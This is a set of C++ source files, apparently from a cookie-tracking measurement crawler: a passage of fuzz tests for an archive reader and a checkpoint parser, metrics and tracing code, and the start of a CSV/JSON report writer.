    const int records = 1 + static_cast<int>(rng.below(5));
    for (int i = 0; i < records; ++i) {
      instrument::ScriptCookieSetRecord set;
      set.cookie_name = "c" + std::to_string(i);
      set.value = "v" + std::to_string(rng.below(1000));
      set.setter_url = "https://cdn.tracker.net/t.js";
      set.setter_domain = "tracker.net";
      set.time = static_cast<TimeMillis>(rng.below(10000));
      log.script_sets.push_back(set);
      instrument::RequestRecord req;
      req.url = "https://px.tracker.net/p?x=" + std::to_string(i);
      req.host = "px.tracker.net";
      req.dest_domain = "tracker.net";
      req.time = set.time + 1;
      log.requests.push_back(req);
    }
    writer.add(log);
  }
  EXPECT_TRUE(writer.finish());
  return out.str();
}

/// Shared oracle: whatever `bytes` holds, opening and fully decoding it
/// must either succeed or stop with a valid taxonomy code. Returns true
/// when the archive was accepted end-to-end.
bool open_and_drain(const std::string& bytes) {
  store::Error error;
  const auto reader = store::Reader::from_buffer(bytes, &error);
  if (!reader) {
    EXPECT_NE(error.code, fault::ArchiveFault::kNone);
    EXPECT_LT(static_cast<int>(error.code), fault::kArchiveFaultCount);
    return false;
  }
  store::Error decode_error;
  const bool drained = reader->for_each(
      [](instrument::VisitLog&& log) {
        // Decoded records carry in-range enums or the block was rejected.
        for (const auto& record : log.script_sets) {
          EXPECT_LT(static_cast<int>(record.api), 3);
          EXPECT_LT(static_cast<int>(record.category), 11);
        }
      },
      &decode_error);
  if (!drained) {
    EXPECT_NE(decode_error.code, fault::ArchiveFault::kNone);
    EXPECT_LT(static_cast<int>(decode_error.code),
              fault::kArchiveFaultCount);
  }
  return drained;
}

TEST(FuzzTest, CgarReaderSurvivesBitFlips) {
  script::Rng rng(0xC6A2);
  const std::string archive = seed_archive(rng);
  ASSERT_TRUE(open_and_drain(archive));
  for (int i = 0; i < 4000; ++i) {
    std::string bad = archive;
    const int flips = 1 + static_cast<int>(rng.below(8));
    for (int f = 0; f < flips; ++f) {
      const std::size_t pos = rng.below(bad.size());
      bad[pos] = static_cast<char>(bad[pos] ^ (1u << rng.below(8)));
    }
    open_and_drain(bad);  // must not crash; rejections are taxonomy'd
  }
}

TEST(FuzzTest, CgarReaderRejectsEveryTruncationAndExtension) {
  script::Rng rng(0xC6A3);
  const std::string archive = seed_archive(rng);
  for (int i = 0; i < 3000; ++i) {
    const std::size_t len = rng.below(archive.size());
    EXPECT_FALSE(open_and_drain(archive.substr(0, len))) << "len=" << len;
  }
  // Bytes appended after the trailer shift the trailer out of position.
  EXPECT_FALSE(open_and_drain(archive + "tail"));
}

TEST(FuzzTest, CgarReaderSurvivesSplicedAndDuplicatedBlocks) {
  script::Rng rng(0xC6A4);
  const std::string archive = seed_archive(rng);
  for (int i = 0; i < 3000; ++i) {
    std::string bad = archive;
    const std::size_t from = rng.below(bad.size());
    const std::size_t span = 1 + rng.below(bad.size() - from);
    const std::string slice = bad.substr(from, span);
    if (rng.below(2) == 0) {
      bad.insert(rng.below(bad.size() + 1), slice);  // duplicate a range
    } else {
      bad.erase(from, span);  // drop a range
    }
    // A splice that leaves the byte count and every checksum and index
    // offset consistent is only the identity; anything else is rejected.
    if (bad != archive) {
      EXPECT_FALSE(open_and_drain(bad)) << "from=" << from << " span=" << span
                                        << " len=" << bad.size();
    }
  }
}

TEST(FuzzTest, CgarReaderToleratesArbitraryGarbage) {
  script::Rng rng(0xC6A5);
  for (int i = 0; i < 4000; ++i) {
    open_and_drain(i % 2 == 0 ? random_bytes(rng, 300)
                              : random_structured(rng, 300));
  }
  // Near-miss headers: correct magic, garbage after.
  for (int i = 0; i < 1000; ++i) {
    std::string bytes(store::kHeaderMagic);
    bytes += random_bytes(rng, 120);
    EXPECT_FALSE(open_and_drain(bytes));
  }
}

TEST(FuzzTest, CgarPayloadDecoderNeverCrashesOnMutatedPayloads) {
  script::Rng rng(0xC6A6);
  instrument::VisitLog log;
  log.site_host = "www.fuzz.example";
  log.site = "fuzz.example";
  log.rank = 3;
  instrument::ScriptCookieSetRecord set;
  set.cookie_name = "id";
  set.value = "123";
  set.setter_url = "https://t.example/x.js";
  set.setter_domain = "t.example";
  log.script_sets.push_back(set);
  const std::string payload = store::encode_site_payload(log);

  for (int i = 0; i < 4000; ++i) {
    std::string bad = payload;
    const int edits = 1 + static_cast<int>(rng.below(4));
    for (int e = 0; e < edits; ++e) {
      if (bad.empty()) bad.push_back('\0');
      switch (rng.below(3)) {
        case 0:  // flip
          bad[rng.below(bad.size())] ^= static_cast<char>(1u << rng.below(8));
          break;
        case 1:  // truncate
          bad.resize(rng.below(bad.size() + 1));
          break;
        default:  // extend with junk
          bad += random_bytes(rng, 16);
          break;
      }
    }
    if (bad.empty()) bad.push_back('\0');
    store::Error error;
    const auto decoded = store::decode_site_payload(bad, &error);
    if (!decoded.has_value()) {
      EXPECT_EQ(error.code, fault::ArchiveFault::kCorruptBlock);
    }
  }
}

TEST(FuzzTest, CheckpointJsonSurvivesTornTailsAndGarbage) {
  // A checkpoint file interrupted mid-write (torn tail) or trailed by
  // garbage must parse to nullopt or to a structurally sound checkpoint —
  // never crash, never yield negative counts the resume path would trip on.
  crawler::CrawlCheckpoint checkpoint;
  checkpoint.next_index = 137;
  checkpoint.target_count = 500;
  checkpoint.corpus_seed = 0xC0FFEE;
  checkpoint.fault_seed = 0xFA177;
  checkpoint.health.sites_attempted = 137;
  checkpoint.health.sites_retained = 101;
  checkpoint.health.sites_excluded = 36;
  checkpoint.health.retained_ranks = {1, 2, 3, 5, 8, 13};
  checkpoint.threads = 4;
  checkpoint.shard_completed = {3, 1, 0, 2};
  checkpoint.archive_sites = 137;
  checkpoint.archive_bytes = 123456;
  const std::string full = checkpoint.to_json_string();

  const auto round_trip = crawler::CrawlCheckpoint::from_json_string(full);
  ASSERT_TRUE(round_trip.has_value());
  EXPECT_EQ(round_trip->next_index, checkpoint.next_index);
  EXPECT_EQ(round_trip->archive_sites, checkpoint.archive_sites);
  EXPECT_EQ(round_trip->archive_bytes, checkpoint.archive_bytes);

  script::Rng rng(0x70A2);
  auto check = [](const std::string& text) {
    const auto parsed = crawler::CrawlCheckpoint::from_json_string(text);
    if (!parsed.has_value()) return;
    EXPECT_GE(parsed->next_index, 0);
    EXPECT_GE(parsed->target_count, 0);
    EXPECT_GE(parsed->health.sites_attempted, 0);
    EXPECT_GE(parsed->archive_sites, -1);
  };
  for (std::size_t cut = 0; cut < full.size(); ++cut) {
    check(full.substr(0, cut));  // every torn tail
  }
  for (int i = 0; i < 500; ++i) {
    check(full + random_bytes(rng, 40));  // garbage appended
    std::string mutated = full;
    mutated[rng.below(mutated.size())] =
        static_cast<char>(rng.below(256));  // one corrupted byte
    check(mutated);
  }
}

TEST(FuzzTest, IdentifierExtractionSegmentsAreAlnum) {
  script::Rng rng(0x1D5E);
  for (int i = 0; i < 3000; ++i) {
    const auto value = random_bytes(rng, 100);
    for (const auto& segment : script::extract_identifier_segments(value)) {
      EXPECT_GE(segment.size(), 8u);
      for (const char c : segment) {
        EXPECT_TRUE(std::isalnum(static_cast<unsigned char>(c)));
      }
    }
  }
}

}  // namespace
}  // namespace cg
