#include "obs/metrics.h"

#include <algorithm>
#include <cmath>
#include <utility>

namespace cg::obs {

Histogram::Histogram(std::vector<double> bounds) : bounds_(std::move(bounds)) {
  std::sort(bounds_.begin(), bounds_.end());
  buckets_.assign(bounds_.size(), 0);
}

void Histogram::observe(double value) {
  if (!std::isfinite(value)) {
    ++dropped_non_finite_;
    return;
  }
  ++count_;
  sum_ += value;
  const auto it = std::lower_bound(bounds_.begin(), bounds_.end(), value);
  if (it == bounds_.end()) {
    ++overflow_;
  } else {
    ++buckets_[static_cast<std::size_t>(it - bounds_.begin())];
  }
}

void Histogram::merge(const Histogram& other) {
  if (bounds_.empty() && count_ == 0 && overflow_ == 0) {
    // Merging into a default-constructed slot adopts the other's shape.
    bounds_ = other.bounds_;
    buckets_.assign(bounds_.size(), 0);
  }
  if (bounds_ != other.bounds_) {
    ++merge_conflicts_;
    return;
  }
  for (std::size_t i = 0; i < buckets_.size(); ++i) {
    buckets_[i] += other.buckets_[i];
  }
  overflow_ += other.overflow_;
  count_ += other.count_;
  sum_ += other.sum_;
  dropped_non_finite_ += other.dropped_non_finite_;
  merge_conflicts_ += other.merge_conflicts_;
}

report::Json Histogram::to_json() const {
  auto j = report::Json::object();
  // Filled as Json::Array rather than via Json::push_back in a loop: GCC 12
  // flags the variant move inside push_back with a spurious
  // -Wmaybe-uninitialized that would fail warnings-as-errors builds.
  report::Json::Array bounds;
  bounds.reserve(bounds_.size());
  for (const double b : bounds_) bounds.emplace_back(b);
  j["bounds"] = report::Json(std::move(bounds));
  report::Json::Array buckets;
  buckets.reserve(buckets_.size());
  for (const std::int64_t c : buckets_) buckets.emplace_back(c);
  j["buckets"] = report::Json(std::move(buckets));
  j["overflow"] = overflow_;
  j["count"] = count_;
  j["sum"] = sum_;  // Json::dump serializes non-finite doubles as null
  if (dropped_non_finite_ > 0) j["dropped_non_finite"] = dropped_non_finite_;
  if (merge_conflicts_ > 0) j["merge_conflicts"] = merge_conflicts_;
  return j;
}

void MetricsRegistry::add(std::string_view name, std::int64_t delta) {
  const auto it = counters_.find(name);
  if (it != counters_.end()) {
    it->second += delta;
  } else {
    counters_.emplace(std::string(name), delta);
  }
}

void MetricsRegistry::gauge_max(std::string_view name, std::int64_t value) {
  const auto it = gauges_.find(name);
  if (it != gauges_.end()) {
    it->second = std::max(it->second, value);
  } else {
    gauges_.emplace(std::string(name), value);
  }
}

Histogram& MetricsRegistry::histogram(std::string_view name,
                                      std::vector<double> bounds) {
  const auto it = histograms_.find(name);
  if (it != histograms_.end()) return it->second;
  return histograms_.emplace(std::string(name), Histogram(std::move(bounds)))
      .first->second;
}

std::int64_t MetricsRegistry::counter(std::string_view name) const {
  const auto it = counters_.find(name);
  return it != counters_.end() ? it->second : 0;
}

std::int64_t MetricsRegistry::gauge(std::string_view name) const {
  const auto it = gauges_.find(name);
  return it != gauges_.end() ? it->second : 0;
}

const Histogram* MetricsRegistry::find_histogram(std::string_view name) const {
  const auto it = histograms_.find(name);
  return it != histograms_.end() ? &it->second : nullptr;
}

void MetricsRegistry::merge(const MetricsRegistry& other) {
  for (const auto& [name, value] : other.counters_) {
    add(name, value);
  }
  for (const auto& [name, value] : other.gauges_) {
    gauge_max(name, value);
  }
  for (const auto& [name, histogram] : other.histograms_) {
    const auto it = histograms_.find(name);
    if (it != histograms_.end()) {
      it->second.merge(histogram);
    } else {
      histograms_.emplace(name, histogram);
    }
  }
}

report::Json MetricsRegistry::to_json() const {
  auto j = report::Json::object();
  auto counters = report::Json::object();
  for (const auto& [name, value] : counters_) counters[name] = value;
  j["counters"] = std::move(counters);
  auto gauges = report::Json::object();
  for (const auto& [name, value] : gauges_) gauges[name] = value;
  j["gauges"] = std::move(gauges);
  auto histograms = report::Json::object();
  for (const auto& [name, histogram] : histograms_) {
    histograms[name] = histogram.to_json();
  }
  j["histograms"] = std::move(histograms);
  return j;
}

}  // namespace cg::obs
