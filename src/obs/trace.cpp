#include "obs/trace.h"

#include <algorithm>
#include <chrono>
#include <ostream>
#include <sstream>
#include <utility>

#include "report/json.h"

namespace cg::obs {

namespace internal {

// cglint: allow(D4) — DESIGN.md §8: the one amendment to the §7 no-mutable-globals audit; a non-owning thread-confined pointer bound/restored by RAII ObsScope, never shared across threads
thread_local LocalObs* tls_obs = nullptr;

std::int64_t wall_now_us() {
  // cglint: allow(D1) — DESIGN.md §8: --trace-wall-clock diagnostic lane only; real timestamps for latency triage, off by default because they break byte-identity
  const auto now = std::chrono::steady_clock::now();
  return std::chrono::duration_cast<std::chrono::microseconds>(
             now.time_since_epoch())
      .count();
}

}  // namespace internal

namespace {

constexpr const char* kHeader = "{\"displayTimeUnit\":\"ms\",\"traceEvents\":[";
constexpr const char* kFooter = "\n]}\n";

/// End of an event on the virtual timeline (span end for 'X').
TimeMillis event_end_ms(const TraceEvent& event) {
  return event.phase == 'X' ? event.ts_ms + event.dur_ms : event.ts_ms;
}

}  // namespace

TraceRecorder::TraceRecorder(TraceConfig config) : config_(config) {}

TraceRecorder::TraceRecorder(TraceConfig config, std::ostream* stream)
    : config_(config), stream_(stream) {}

TraceRecorder::~TraceRecorder() { finish(); }

std::string TraceRecorder::event_json(const TraceEvent& event) {
  // Hand-assembled in fixed field order (Json objects sort keys; the trace
  // reads better with ph/name first) — parse-validated by obs_test and the
  // `cgsim trace-check` CI smoke job.
  std::string out = "{\"ph\":\"";
  out += event.phase;
  out += "\",\"name\":";
  out += report::Json(event.name).dump();
  out += ",\"cat\":\"";
  out += event.category;
  out += "\",\"pid\":1,\"tid\":";
  out += std::to_string(event.track);
  out += ",\"ts\":";
  out += std::to_string(event.ts_ms * 1000);  // Chrome ts is microseconds
  if (event.phase == 'X') {
    out += ",\"dur\":";
    out += std::to_string(event.dur_ms * 1000);
  }
  if (event.phase == 'i') {
    out += ",\"s\":\"t\"";  // instant scope: thread (= track)
  }
  bool has_args = event.phase == 'C' || !event.arg.empty() ||
                  event.wall_us >= 0;
  if (has_args) {
    out += ",\"args\":{";
    bool first = true;
    if (event.phase == 'C') {
      out += "\"value\":" + std::to_string(event.value);
      first = false;
    }
    if (!event.arg.empty()) {
      if (!first) out += ',';
      out += "\"detail\":" + report::Json(event.arg).dump();
      first = false;
    }
    if (event.wall_us >= 0) {
      if (!first) out += ',';
      out += "\"wall_us\":" + std::to_string(event.wall_us);
    }
    out += '}';
  }
  out += '}';
  return out;
}

void TraceRecorder::emit(TraceEvent&& event) {
  last_ts_ = std::max(last_ts_, event_end_ms(event));
  ++count_;
  if (stream_ != nullptr) {
    if (!header_written_) {
      *stream_ << kHeader;
      header_written_ = true;
    }
    *stream_ << (first_event_ ? "\n" : ",\n") << event_json(event);
    first_event_ = false;
  } else {
    events_.push_back(std::move(event));
  }
}

void TraceRecorder::append(TraceBuffer&& buffer) {
  auto& events = buffer.events();
  std::stable_sort(events.begin(), events.end(),
                   [](const TraceEvent& a, const TraceEvent& b) {
                     return a.ts_ms < b.ts_ms;
                   });
  for (TraceEvent& event : events) {
    emit(std::move(event));
  }
  events.clear();
}

void TraceRecorder::driver_instant(const char* category, std::string_view name,
                                   std::string arg) {
  TraceEvent event;
  event.phase = 'i';
  event.track = 0;
  event.ts_ms = last_ts_;
  event.category = category;
  event.name = std::string(name);
  event.arg = std::move(arg);
  if (config_.capture_wall_clock) event.wall_us = internal::wall_now_us();
  emit(std::move(event));
}

void TraceRecorder::driver_counter(const char* category, std::string_view name,
                                   std::int64_t value) {
  TraceEvent event;
  event.phase = 'C';
  event.track = 0;
  event.ts_ms = last_ts_;
  event.value = value;
  event.category = category;
  event.name = std::string(name);
  if (config_.capture_wall_clock) event.wall_us = internal::wall_now_us();
  emit(std::move(event));
}

std::string TraceRecorder::to_chrome_json() const {
  std::string out = kHeader;
  bool first = true;
  for (const TraceEvent& event : events_) {
    out += first ? "\n" : ",\n";
    out += event_json(event);
    first = false;
  }
  out += kFooter;
  return out;
}

void TraceRecorder::finish() {
  if (stream_ == nullptr || finished_) return;
  if (!header_written_) {
    *stream_ << kHeader;
    header_written_ = true;
  }
  *stream_ << kFooter;
  stream_->flush();
  finished_ = true;
}

}  // namespace cg::obs
