// Deterministic tracing: virtual-time spans, instants, and counter samples
// exported as Chrome trace-event JSON (loadable in Perfetto /
// chrome://tracing).
//
// The design mirrors the sharded crawl's determinism discipline
// (src/runtime/): every site gets its own TraceBuffer, filled on whichever
// shard worker runs the site via a thread-local binding (ObsScope), and
// flushed into the crawl-level TraceRecorder on the calling thread in
// site-index order. Events are timestamped on the deterministic virtual
// clock (SimClock) and placed on a per-site track, so a traced N-thread
// crawl emits a byte-identical trace to the 1-thread crawl — worker
// identity appears nowhere in the output. An optional wall-clock field
// (`capture_wall_clock`) annotates events with real time for latency
// triage; enabling it deliberately breaks byte-identity and is off by
// default.
//
// Disabled path: when no ObsScope is bound (or tracing is off), every
// emission helper is a single thread-local pointer test — the null-sink
// branch bench_obs_overhead holds under 2% of crawl throughput.
//
// Spans are "X" (complete) events rather than B/E pairs: a site's retry
// attempts overlap in virtual time (backoff can be shorter than a visit
// deadline), and complete events tolerate overlap where a B/E stack would
// mis-nest. Buffers are stable-sorted by timestamp at flush time, which
// makes every track's events non-decreasing in virtual time — the
// invariant `cgsim trace-check` verifies.
#pragma once

#include <cstdint>
#include <iosfwd>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "net/clock.h"
#include "obs/metrics.h"

namespace cg::obs {

/// Trace verbosity. kCrawl covers the crawl pipeline (site/attempt spans,
/// faults, retries, checkpoints); kFull adds the per-visit layers
/// (navigations, event-loop tasks, CookieGuard interceptions) — richer and
/// roughly an order of magnitude more events per site.
enum class Detail { kCrawl = 0, kFull = 1 };

struct TraceEvent {
  char phase = 'i';         // 'X' span, 'i' instant, 'C' counter sample
  std::int32_t track = 0;   // Chrome tid; 0 = crawl driver, rank+1 = site
  TimeMillis ts_ms = 0;     // virtual time
  TimeMillis dur_ms = 0;    // 'X' only
  std::int64_t value = 0;   // 'C' only
  std::int64_t wall_us = -1;  // optional wall clock; -1 = not captured
  const char* category = "";  // static-lifetime string
  std::string name;
  std::string arg;  // optional annotation; empty = none
};

/// One scope's event buffer (one site, one test, ...). Disarmed buffers
/// drop every event; the armed flag carries the recorder's detail level and
/// wall-clock choice so emission helpers never touch the recorder itself.
class TraceBuffer {
 public:
  void arm(std::int32_t track, Detail detail, bool capture_wall) {
    armed_ = true;
    track_ = track;
    detail_ = detail;
    capture_wall_ = capture_wall;
  }

  bool armed(Detail detail) const { return armed_ && detail <= detail_; }
  bool capture_wall() const { return capture_wall_; }
  std::int32_t track() const { return track_; }

  void push(TraceEvent event) {
    event.track = track_;
    events_.push_back(std::move(event));
  }

  std::vector<TraceEvent>& events() { return events_; }
  const std::vector<TraceEvent>& events() const { return events_; }
  bool empty() const { return events_.empty(); }

 private:
  std::vector<TraceEvent> events_;
  std::int32_t track_ = 0;
  Detail detail_ = Detail::kCrawl;
  bool armed_ = false;
  bool capture_wall_ = false;
};

/// The per-scope observability bundle the emission helpers write into: the
/// trace buffer plus a metrics registry. Either half can be armed alone.
struct LocalObs {
  TraceBuffer trace;
  MetricsRegistry metrics;
  bool metrics_enabled = false;
};

namespace internal {
/// Thread-local current sink. This is the library's one mutable
/// thread-local: a non-owning pointer scoped by ObsScope (RAII), never
/// shared across threads — see DESIGN.md §8 for why this passes the
/// no-mutable-globals audit.
extern thread_local LocalObs* tls_obs;
std::int64_t wall_now_us();
}  // namespace internal

/// RAII binding of a LocalObs to the current thread. Nesting restores the
/// previous binding; binding nullptr silences emission (the null sink).
class ObsScope {
 public:
  explicit ObsScope(LocalObs* obs) : previous_(internal::tls_obs) {
    internal::tls_obs = obs;
  }
  ~ObsScope() { internal::tls_obs = previous_; }
  ObsScope(const ObsScope&) = delete;
  ObsScope& operator=(const ObsScope&) = delete;

 private:
  LocalObs* previous_;
};

inline LocalObs* current() { return internal::tls_obs; }

/// True when a bound buffer accepts events at `detail` — use to guard
/// emission sites that must build dynamic names/annotations.
inline bool armed(Detail detail) {
  const LocalObs* obs = internal::tls_obs;
  return obs != nullptr && obs->trace.armed(detail);
}

inline MetricsRegistry* metrics() {
  LocalObs* obs = internal::tls_obs;
  return obs != nullptr && obs->metrics_enabled ? &obs->metrics : nullptr;
}

// ---- emission helpers (null sink: one pointer test, no allocation) -------

inline void span(Detail detail, const char* category, std::string_view name,
                 TimeMillis ts_ms, TimeMillis dur_ms) {
  LocalObs* obs = internal::tls_obs;
  if (obs == nullptr || !obs->trace.armed(detail)) return;
  TraceEvent event;
  event.phase = 'X';
  event.ts_ms = ts_ms;
  event.dur_ms = dur_ms;
  event.category = category;
  event.name = std::string(name);
  if (obs->trace.capture_wall()) event.wall_us = internal::wall_now_us();
  obs->trace.push(std::move(event));
}

inline void instant(Detail detail, const char* category, std::string_view name,
                    TimeMillis ts_ms, std::string arg = {}) {
  LocalObs* obs = internal::tls_obs;
  if (obs == nullptr || !obs->trace.armed(detail)) return;
  TraceEvent event;
  event.phase = 'i';
  event.ts_ms = ts_ms;
  event.category = category;
  event.name = std::string(name);
  event.arg = std::move(arg);
  if (obs->trace.capture_wall()) event.wall_us = internal::wall_now_us();
  obs->trace.push(std::move(event));
}

inline void counter_sample(Detail detail, const char* category,
                           std::string_view name, TimeMillis ts_ms,
                           std::int64_t value) {
  LocalObs* obs = internal::tls_obs;
  if (obs == nullptr || !obs->trace.armed(detail)) return;
  TraceEvent event;
  event.phase = 'C';
  event.ts_ms = ts_ms;
  event.value = value;
  event.category = category;
  event.name = std::string(name);
  if (obs->trace.capture_wall()) event.wall_us = internal::wall_now_us();
  obs->trace.push(std::move(event));
}

inline void metric_add(std::string_view name, std::int64_t delta = 1) {
  if (MetricsRegistry* m = metrics()) m->add(name, delta);
}

inline void metric_gauge_max(std::string_view name, std::int64_t value) {
  if (MetricsRegistry* m = metrics()) m->gauge_max(name, value);
}

inline void metric_observe(std::string_view name,
                           std::initializer_list<double> bounds,
                           double value) {
  if (MetricsRegistry* m = metrics()) {
    m->observe(name, std::vector<double>(bounds), value);
  }
}

// ---- crawl-level recorder ------------------------------------------------

struct TraceConfig {
  Detail detail = Detail::kFull;
  /// Annotate every event with a real (steady_clock) timestamp. Diagnostic
  /// only: wall time differs run-to-run and thread-count-to-thread-count,
  /// so this deliberately trades byte-identity for latency visibility.
  bool capture_wall_clock = false;
};

/// Accumulates (or streams) the merged trace. All methods are single-thread:
/// the crawl calls append() on the merge thread in site-index order, which
/// is exactly what makes the exported trace deterministic. Constructed with
/// a stream, events are serialized as they arrive and never retained — a
/// 20k-site trace does not need to fit in memory; without a stream they are
/// kept for to_chrome_json() (tests, small runs).
class TraceRecorder {
 public:
  explicit TraceRecorder(TraceConfig config = {});
  TraceRecorder(TraceConfig config, std::ostream* stream);
  ~TraceRecorder();

  TraceRecorder(const TraceRecorder&) = delete;
  TraceRecorder& operator=(const TraceRecorder&) = delete;

  const TraceConfig& config() const { return config_; }

  /// Arms `obs` to feed this recorder: trace on `track` at the recorder's
  /// detail/wall-clock settings, metrics if `with_metrics`.
  void arm(LocalObs& obs, std::int32_t track, bool with_metrics) const {
    obs.trace.arm(track, config_.detail, config_.capture_wall_clock);
    obs.metrics_enabled = with_metrics;
  }

  /// Deterministic merge: stable-sorts the buffer by virtual time (tracks
  /// become non-decreasing; overlap from retry backoff is tolerated by the
  /// 'X' span encoding) and emits. Call in site-index order.
  void append(TraceBuffer&& buffer);

  /// Driver-lane (track 0) events for work that happens on the merge thread
  /// itself — checkpoint writes, crawl-level counters. Timestamped at the
  /// running maximum virtual time, which keeps track 0 monotonic.
  void driver_instant(const char* category, std::string_view name,
                      std::string arg = {});
  void driver_counter(const char* category, std::string_view name,
                      std::int64_t value);

  std::size_t event_count() const { return count_; }
  TimeMillis last_ts_ms() const { return last_ts_; }

  /// In-memory mode only.
  const std::vector<TraceEvent>& events() const { return events_; }
  std::string to_chrome_json() const;

  /// Streaming mode: closes the JSON document. Idempotent; the destructor
  /// calls it as a safety net.
  void finish();

  /// One event as a Chrome trace-event JSON object (exposed for tests).
  static std::string event_json(const TraceEvent& event);

 private:
  void emit(TraceEvent&& event);

  TraceConfig config_;
  std::ostream* stream_ = nullptr;
  bool header_written_ = false;
  bool finished_ = false;
  bool first_event_ = true;
  std::vector<TraceEvent> events_;
  std::size_t count_ = 0;
  TimeMillis last_ts_ = 0;
};

}  // namespace cg::obs
