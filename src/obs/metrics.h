// Deterministic metrics: counters, gauges, fixed-bucket histograms.
//
// A MetricsRegistry is the numeric half of the observability subsystem
// (src/obs/trace.h is the event half). Registries are cheap value types:
// the crawler gives every site its own registry, fills it on whichever
// shard worker runs the site, and folds it into the crawl-level registry
// on the calling thread in site-index order — the same discipline as the
// ShardedRunner merge. Because every merge operation is commutative and
// associative (counters/histograms add, gauges take the max), the final
// serialized registry is byte-identical at any thread count.
//
// Serialization goes through report::Json with keys in sorted order, so
// `a.to_json().dump() == b.to_json().dump()` is the equality the
// determinism tests assert. Non-finite observations are dropped at the
// door (and counted) so histogram export can never emit invalid JSON.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "report/json.h"

namespace cg::obs {

/// Fixed-bucket histogram: `bounds` are ascending inclusive upper bounds;
/// observations above the last bound land in an overflow bucket. Bounds are
/// fixed at creation so shard histograms merge bucket-by-bucket.
class Histogram {
 public:
  Histogram() = default;
  explicit Histogram(std::vector<double> bounds);

  void observe(double value);
  /// Adds another histogram's buckets. Mismatched bounds would make the
  /// merge meaningless, so `other` is dropped (and the drop is countable
  /// via merge_conflicts()) rather than silently corrupting buckets.
  void merge(const Histogram& other);

  std::int64_t count() const { return count_; }
  double sum() const { return sum_; }
  std::int64_t dropped_non_finite() const { return dropped_non_finite_; }
  std::int64_t merge_conflicts() const { return merge_conflicts_; }
  const std::vector<double>& bounds() const { return bounds_; }
  const std::vector<std::int64_t>& buckets() const { return buckets_; }
  std::int64_t overflow() const { return overflow_; }

  report::Json to_json() const;

 private:
  std::vector<double> bounds_;
  std::vector<std::int64_t> buckets_;  // one per bound
  std::int64_t overflow_ = 0;
  std::int64_t count_ = 0;
  double sum_ = 0;
  std::int64_t dropped_non_finite_ = 0;
  std::int64_t merge_conflicts_ = 0;
};

/// Named counters (merge: add), gauges (merge: max — high-water semantics),
/// and histograms (merge: bucket-wise add). Not thread-safe by design: one
/// registry belongs to one site/worker/crawl scope, and cross-scope
/// reduction goes through merge() on a single thread.
class MetricsRegistry {
 public:
  void add(std::string_view name, std::int64_t delta = 1);
  /// Raises the gauge to `value` if higher (merge-friendly high-water).
  void gauge_max(std::string_view name, std::int64_t value);
  /// Returns the histogram registered under `name`, creating it with
  /// `bounds` on first use (later calls ignore `bounds`).
  Histogram& histogram(std::string_view name, std::vector<double> bounds);

  void observe(std::string_view name, std::vector<double> bounds,
               double value) {
    histogram(name, std::move(bounds)).observe(value);
  }

  std::int64_t counter(std::string_view name) const;
  std::int64_t gauge(std::string_view name) const;
  const Histogram* find_histogram(std::string_view name) const;

  bool empty() const {
    return counters_.empty() && gauges_.empty() && histograms_.empty();
  }

  /// Folds `other` into this registry. Commutative and associative, so any
  /// shard-reduction order yields the same serialized registry.
  void merge(const MetricsRegistry& other);

  /// {"counters": {...}, "gauges": {...}, "histograms": {...}} with keys in
  /// sorted order — dump() of two equal registries is byte-identical.
  report::Json to_json() const;

 private:
  std::map<std::string, std::int64_t, std::less<>> counters_;
  std::map<std::string, std::int64_t, std::less<>> gauges_;
  std::map<std::string, Histogram, std::less<>> histograms_;
};

}  // namespace cg::obs
