#include "report/report.h"

#include <algorithm>
#include <array>

#include "perf/perf.h"

namespace cg::report {
namespace {

std::string join_top(const std::map<std::string, int>& counts,
                     std::size_t n) {
  std::string out;
  for (const auto& [entity, count] : analysis::top_counts(counts, n)) {
    if (!out.empty()) out += "; ";
    out += entity;
  }
  return out;
}

}  // namespace

std::string csv_escape(std::string_view cell) {
  const bool needs_quotes =
      cell.find_first_of(",\"\n\r") != std::string_view::npos;
  if (!needs_quotes) return std::string(cell);
  std::string out = "\"";
  for (const char c : cell) {
    if (c == '"') out += "\"\"";
    else out.push_back(c);
  }
  out += '"';
  return out;
}

Json totals_to_json(const analysis::Totals& t) {
  Json out = Json::object();
  out["sites_crawled"] = t.sites_crawled;
  out["sites_complete"] = t.sites_complete;
  out["sites_with_third_party"] = t.sites_with_third_party;
  out["third_party_script_count"] = t.third_party_script_count;
  out["third_party_ad_tracking_count"] = t.third_party_ad_tracking_count;
  out["tp_cookies_set"] = t.tp_cookies_set;
  out["fp_cookies_set"] = t.fp_cookies_set;
  out["direct_inclusions"] = t.direct_inclusions;
  out["indirect_inclusions"] = t.indirect_inclusions;
  out["sites_using_document_cookie"] = t.sites_using_document_cookie;
  out["sites_using_cookie_store"] = t.sites_using_cookie_store;
  out["sites_doc_exfil"] = t.sites_doc_exfil;
  out["sites_doc_overwrite"] = t.sites_doc_overwrite;
  out["sites_doc_delete"] = t.sites_doc_delete;
  out["sites_store_exfil"] = t.sites_store_exfil;
  out["cross_overwrites"] = t.cross_overwrites;
  out["overwrite_value_changed"] = t.overwrite_value_changed;
  out["overwrite_expires_changed"] = t.overwrite_expires_changed;
  out["overwrite_domain_changed"] = t.overwrite_domain_changed;
  out["overwrite_path_changed"] = t.overwrite_path_changed;
  out["overwrite_expiry_extended"] = t.overwrite_expiry_extended;
  out["expiry_days_added"] = t.expiry_days_added;
  out["sites_with_cross_dom_modification"] =
      t.sites_with_cross_dom_modification;
  out["attributed_sets"] = t.attributed_sets;
  out["attribution_correct"] = t.attribution_correct;
  out["attribution_unknown"] = t.attribution_unknown;

  auto timing = [](std::vector<TimeMillis> samples) {
    const auto summary = perf::summarize(std::move(samples));
    Json j = Json::object();
    j["mean_ms"] = summary.mean_ms;
    j["median_ms"] = summary.median_ms;
    return j;
  };
  Json timings = Json::object();
  timings["dom_content_loaded"] = timing(t.dom_content_loaded);
  timings["dom_interactive"] = timing(t.dom_interactive);
  timings["load_event"] = timing(t.load_event);
  out["timings"] = std::move(timings);
  return out;
}

void write_pairs_csv(const analysis::Analyzer& analyzer, std::size_t n,
                     std::ostream& out) {
  out << "cookie_name,owner_domain,action,entity_count,top_entities\n";
  const auto emit = [&](const std::vector<analysis::Analyzer::RankedPair>&
                            rows,
                        const char* action,
                        const std::map<std::string, int> analysis::PairStats::*
                            field) {
    for (const auto& row : rows) {
      const auto& counts = row.stats->*field;
      out << csv_escape(row.pair.name) << ','
          << csv_escape(row.pair.owner_domain) << ',' << action << ','
          << counts.size() << ',' << csv_escape(join_top(counts, 3)) << '\n';
    }
  };
